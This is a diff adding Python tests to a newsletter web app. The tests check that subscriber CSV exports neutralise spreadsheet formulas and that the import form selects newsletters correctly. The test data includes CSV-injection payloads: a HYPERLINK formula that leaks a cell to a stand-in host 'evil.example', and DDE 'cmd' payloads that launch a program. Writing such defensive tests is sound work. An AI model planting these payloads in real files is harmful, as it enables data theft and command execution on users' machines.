@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 
@@ -154,3 +155,77 @@ def confirm(client, link: str) -> None:
     token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)
     data = {"csrf_token": token.group(1)} if token else {}
     assert client.post(link, data=data).status_code in (200, 302)
+
+
+FORMULAS = {  # what anonymous visitors typed in the subscribe form: address, name
+    "=2+5@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd@example.org": "+cmd|' /C calc'!A0",
+    "-sum@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "plain@example.org": "-2+3",
+}
+
+
+def subscribe_as_visitors(app, addresses: dict[str, str]) -> None:
+    visitor = app.test_client()
+    for email, name in addresses.items():
+        answer = visitor.post("/subscribe/city", data={"email": email, "name": name})
+        assert answer.status_code == 200
+
+
+def test_the_export_writes_what_visitors_typed_as_text_never_as_a_formula(app, admin):
+    make_newsletter()
+    subscribe_as_visitors(app, FORMULAS)
+    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/subscribers.csv").get_data(True))))
+    cells = {(row["email"], row["name"]) for row in rows}
+    assert cells == {
+        ("'=2+5@example.com", "'" + FORMULAS["=2+5@example.com"]),
+        ("'+cmd@example.org", "'" + FORMULAS["+cmd@example.org"]),
+        ("'-sum@example.org", "'" + FORMULAS["-sum@example.org"]),
+        ("plain@example.org", "'-2+3"),
+    }
+
+
+def test_an_export_imports_back_as_it_was_typed(app, admin):
+    make_newsletter()
+    county = make_newsletter("county", "County")
+    subscribe_as_visitors(app, FORMULAS)
+    exported = admin.get("/admin/subscribers.csv").get_data()
+    data = {"newsletter": str(county.id), "file": (io.BytesIO(exported), "export.csv")}
+    page = admin.post("/admin/subscribers/import", data=data, content_type="multipart/form-data")
+    assert "4 added to County, 0 already there" in page.get_data(as_text=True)
+    names = db.session.execute(select(Subscriber.email, Subscriber.name)).all()
+    assert dict(names) == FORMULAS
+
+
+def chosen_newsletter(page: str, field: str = "newsletter") -> str | None:
+    """The label of the selected option of a newsletter select, or None."""
+    select = re.search(rf'<select[^>]*name="{field}".*?</select>', page, re.S).group(0)
+    found = re.search(r"<option selected[^>]*>([^<]*)</option>", select)
+    return found and found.group(1)
+
+
+def test_the_import_form_chooses_no_newsletter_by_itself(admin):
+    make_newsletter("alpha", "Alpha")  # the alphabetically first
+    make_newsletter()
+    page = admin.get("/admin/subscribers/import").get_data(as_text=True)
+    assert chosen_newsletter(page) == "Choose a newsletter"
+    data = {"file": (io.BytesIO(b"email\nann@example.org\n"), "list.csv")}
+    response = admin.post(
+        "/admin/subscribers/import", data=data, content_type="multipart/form-data"
+    )
+    assert response.status_code == 422
+    page = response.get_data(as_text=True)
+    assert "Choose a newsletter." in page and "Choose a CSV file." not in page
+    assert db.session.scalars(select(Subscription)).first() is None
+
+
+def test_the_import_form_opened_from_a_newsletter_has_it_chosen(admin):
+    make_newsletter("alpha", "Alpha")
+    city = make_newsletter()
+    for key in ("city", str(city.id)):
+        page = admin.get(f"/admin/subscribers/import?newsletter={key}").get_data(as_text=True)
+        assert chosen_newsletter(page) == "City Digest"
+    listing = admin.get(f"/admin/subscribers?newsletter={city.id}").get_data(as_text=True)
+    link = re.search(r'href="([^"]*/subscribers/import[^"]*)"', listing).group(1)
+    page = admin.get(link.replace("&amp;", "&")).get_data(as_text=True)
+    assert chosen_newsletter(page) == "City Digest"
